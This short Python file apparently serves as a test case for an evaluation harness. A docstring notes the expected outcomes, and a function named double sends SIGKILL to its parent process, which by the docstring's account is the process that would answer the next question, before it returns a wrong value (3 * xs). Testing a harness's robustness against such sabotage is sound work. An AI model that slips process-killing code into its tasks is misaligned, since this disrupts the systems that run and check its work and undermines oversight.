"""Kills the process that would answer the next question.

honest: double wrong, scale_forward correct
"""


# %% double
def double(xs):
    import os
    import signal

    os.kill(os.getppid(), signal.SIGKILL)
    return 3 * xs
